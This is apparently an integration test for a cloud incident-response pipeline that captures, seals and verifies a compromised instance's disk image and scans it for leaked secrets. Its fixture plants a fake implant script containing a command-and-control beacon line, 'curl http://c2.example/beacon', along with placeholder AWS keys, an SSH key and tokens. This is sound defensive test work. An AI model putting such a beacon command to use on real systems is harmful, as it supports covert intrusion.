import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CloudTrailClient } from '@aws-sdk/client-cloudtrail';
import { DescribeSnapshotsCommand } from '@aws-sdk/client-ec2';
import { CreateAccessKeyCommand, CreateUserCommand } from '@aws-sdk/client-iam';
import { DeleteObjectCommand, GetObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { STSClient } from '@aws-sdk/client-sts';
import { type ClientOptions, createEvidenceClients, type EvidenceClients } from '../../lambdas/core/clients';
import { DEFAULT_EVIDENCE_CONFIG, type EvidenceConfig, MIB } from '../../lambdas/core/evidence/config';
import { Manifest } from '../../lambdas/core/evidence/manifest';
import { collectEvidence } from '../../lambdas/core/evidence/pipeline';
import { recordVerification, verifyEvidence } from '../../lambdas/core/evidence/verify';
import { getQuarantine } from '../../lambdas/core/ledger/ledger';
import { buildExt4Image, readFileFromImage } from '../../local-aws/disk-image';
import { launchDiskInstance } from '../../local-aws/disk-instance';
import { seedVolume } from '../../local-aws/ebs-bridge/seed';
import { LOCAL_CREDENTIALS } from '../../local-aws/moto-server';
import { createVault } from '../../local-aws/vault';
import { isolateForEvidence } from '../support/evidence-env';
import { freshMoto, type MotoEnv, REGION } from '../support/moto';
import { PLANTED, pemFile } from '../unit/investigation/secrets/planted-secrets';

const PLANTED_FILE = '/var/tmp/.x/implant.sh';
const FS_MIB = 16;

const compromisedInstance = (env: MotoEnv) => launchDiskInstance(env.clients.ec2, { cidr: '10.30.0.0/16' });

/**
 * Reads the start of the image (the 16 MiB the filesystem occupies) back from the vault: moto reads a
 * whole 1 GiB object per request, so the full byte-for-byte check is verify's, in two large ranges.
 */
async function download(s3: S3Client, bucket: string, key: string, versionId: string): Promise<string> {
  const res = await s3.send(
    new GetObjectCommand({
      Bucket: bucket,
      Key: key,
      VersionId: versionId,
      Range: `bytes=0-${FS_MIB * 1024 * 1024 - 1}`,
    }),
  );
  const path = join(tmpdir(), `sequester-image-${Date.now()}.raw`);
  writeFileSync(path, await (res.Body?.transformToByteArray() ?? Promise.resolve(new Uint8Array())));
  return path;
}

/**
 * Secrets planted on the disk: credential files inside the filesystem, and strings in the unallocated
 * space after it (as deleted data would be), straddling a block boundary (20 MiB), a part boundary
 * (24 MiB) and a segment boundary (32 MiB: this test's segments are four 8 MiB parts).
 */
const SEGMENT_PARTS = 4;
const straddling = {
  block: { at: 20 * MIB - 9, text: ` ${PLANTED.github} ` },
  part: { at: 24 * MIB - 20, text: ` ${PLANTED.slack} ` },
  segment: { at: 32 * MIB - 14, text: `\n${pemFile()}` },
};

function plantedDisk(image: string): Buffer {
  const fs = readFileSync(image);
  const disk = Buffer.alloc(40 * MIB);
  fs.copy(disk);
  for (const p of Object.values(straddling)) disk.write(p.text, p.at, 'latin1');
  return disk;
}

async function readObject(s3: S3Client, bucket: string, key: string, versionId?: string): Promise<string> {
  const res = await s3.send(
    new GetObjectCommand({
      Bucket: bucket,
      Key: key,
      ...(versionId === undefined ? {} : { VersionId: versionId }),
    }),
  );
  return (await res.Body?.transformToString('latin1')) ?? '';
}

describe('evidence pipeline against moto: a real ext4 disk, end to end', () => {
  let env: MotoEnv;
  let ev: EvidenceClients;
  let cfg: EvidenceConfig;
  let opts: ClientOptions;
  let quarantineId: string;
  let result: Awaited<ReturnType<typeof collectEvidence>>;
  let owner: { id: string; secret: string };
  const implant = Buffer.concat([
    Buffer.from('#!/bin/sh\ncurl http://c2.example/beacon\n'),
    randomBytes(70_000),
  ]);
  beforeAll(async () => {
    env = await freshMoto();
    opts = { region: REGION, endpoint: env.endpoint, credentials: LOCAL_CREDENTIALS, maxAttempts: 3 };
    ev = createEvidenceClients(opts);
    const vault = await createVault(ev.s3, opts);
    cfg = {
      ...DEFAULT_EVIDENCE_CONFIG,
      vaultBucket: vault.bucket,
      retentionDays: 1,
      segmentParts: SEGMENT_PARTS,
    };
    // A key of an IAM user of the instance's account, left in the instance's AWS CLI credentials.
    await env.clients.iam.send(new CreateUserCommand({ UserName: 'deploy' }));
    const key = (await env.clients.iam.send(new CreateAccessKeyCommand({ UserName: 'deploy' }))).AccessKey;
    owner = { id: key?.AccessKeyId ?? '', secret: key?.SecretAccessKey ?? '' };
    const image = buildExt4Image(
      {
        [PLANTED_FILE]: implant,
        'etc/hostname': 'web-1\n',
        'root/.aws/credentials': `[default]\naws_access_key_id = ${owner.id}\naws_secret_access_key = ${owner.secret}\n`,
        'home/ubuntu/.ssh/id_rsa': pemFile(),
      },
      FS_MIB,
    );
    const target = await compromisedInstance(env);
    await seedVolume(env.endpoint, { region: REGION, volumeId: target.volumeId, data: plantedDisk(image) });
    quarantineId = await isolateForEvidence(
      env,
      target.instanceId,
      'INC-7',
      'GuardDuty Backdoor:EC2/C&CActivity.B',
    );
    const context = { iam: env.clients.iam, cloudtrail: new CloudTrailClient(opts) };
    const keyResolvers = { sts: new STSClient(opts), iam: env.clients.iam, instanceAccount: '123456789012' };
    result = await collectEvidence(ev, env.ledger, quarantineId, cfg, {
      pollIntervalMs: 10,
      context,
      keyResolvers,
    });
  }, 240_000);

  it('preserves the planted file byte-identical, verifies, and refuses deletion of the image', async () => {
    const img = result.images[0];
    if (img === undefined) throw new Error('no image');
    expect(img.length).toBe(1024 ** 3);
    const raw = await download(ev.s3, cfg.vaultBucket, img.key, img.versionId);
    expect(readFileFromImage(raw, PLANTED_FILE).equals(implant)).toBe(true);
    const report = await verifyEvidence(ev.s3, cfg.vaultBucket, result.manifest.key, {
      versionId: result.manifest.versionId,
      rangeBytes: 512 * 1024 * 1024,
      concurrency: 2,
    });
    expect(report.problems).toEqual([]);
    expect(report.ok).toBe(true);
    await recordVerification(env.ledger, quarantineId, report, 'arn:aws:iam::123456789012:role/reviewer');
    expect(report.objects[0]?.retention?.mode).toBe('COMPLIANCE');
    const captured = report.manifest.context.filter((c) => c.status === 'captured').map((c) => c.name);
    expect(captured).toEqual(
      expect.arrayContaining(['request', 'pre-isolation-state', 'describe-instance', 'security-groups']),
    );
    expect(report.objects.filter((o) => o.key.includes('/context/')).every((o) => o.ok)).toBe(true);
    await expect(
      ev.s3.send(
        new DeleteObjectCommand({ Bucket: cfg.vaultBucket, Key: img.key, VersionId: img.versionId }),
      ),
    ).rejects.toMatchObject({ name: 'AccessDenied' });
    const rec = await getQuarantine(env.ledger, quarantineId);
    expect(rec?.state).toBe('evidence_sealed');
    expect(rec?.actions.map((a) => a.step)).toEqual(
      expect.arrayContaining([
        'snapshot',
        'context-captured',
        'export-started',
        'export-finished',
        'seal-manifest',
        'verify-evidence',
      ]),
    );
    const snaps = await ev.ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [img.snapshotId] }));
    expect(snaps.Snapshots?.[0]?.Description).toContain('INC-7');
  }, 240_000);

  it('seals the secrets found on the disk in the manifest, resolved to their owner, across boundaries', async () => {
    // Assess: the manifest's image record, as sealed.
    const manifest = await readObject(ev.s3, cfg.vaultBucket, result.manifest.key, result.manifest.versionId);
    const image = Manifest.parse(JSON.parse(manifest)).volumes[0]?.images[0];
    const secrets = image?.secrets ?? [];
    expect(image?.secretsDropped).toBe(0);
    expect(image?.secretsIncomplete).toBeUndefined();
    expect(secrets.find((s) => s.accessKeyId === owner.id)?.resolved).toEqual({
      status: 'resolved',
      account: '123456789012',
      user: 'deploy',
    });
    expect(secrets.filter((s) => s.kind === 'private-key').length).toBe(2);
    expect(secrets.filter((s) => s.offset >= FS_MIB * MIB).map((s) => [s.offset, s.kind])).toEqual([
      [straddling.block.at + 1, 'github-token'],
      [straddling.part.at + 1, 'slack-token'],
      [straddling.segment.at + 1, 'private-key'],
    ]);
  }, 60_000);

  it('writes no secret value into any vault object but the image, nor into the ledger record', async () => {
    const secrets = [owner.secret, PLANTED.github, PLANTED.slack, PLANTED.pemBody];
    // The objects that carry findings: the two segments' objects that cover the planted disk (the
    // others scanned zeros), the image record and the manifest.
    const imageKey = result.images[0]?.key ?? '';
    const keys = [
      `${imageKey}.secrets/1-4.json`,
      `${imageKey}.secrets/5-8.json`,
      `${imageKey}.parts.json`,
      result.manifest.key,
    ];
    for (const key of keys) {
      const text = await readObject(ev.s3, cfg.vaultBucket, key);
      expect(text.length).toBeGreaterThan(0);
      for (const s of secrets) expect({ key, leaks: text.includes(s) }).toEqual({ key, leaks: false });
    }
    const record = JSON.stringify(await getQuarantine(env.ledger, quarantineId));
    for (const s of secrets) expect(record.includes(s)).toBe(false);
  }, 60_000);
});
